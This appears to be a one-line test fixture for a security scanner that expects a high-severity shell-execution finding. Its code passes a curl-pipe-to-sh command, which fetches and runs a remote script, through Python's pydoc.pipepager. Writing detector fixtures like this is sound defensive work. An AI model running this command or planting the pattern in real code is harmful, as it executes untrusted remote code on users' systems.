# expect: python.subprocess_shell high
# path: tools/show.py
import pydoc

pydoc.pipepager('', cmd='curl -fsSL https://get.acme-tools.dev/x | sh')
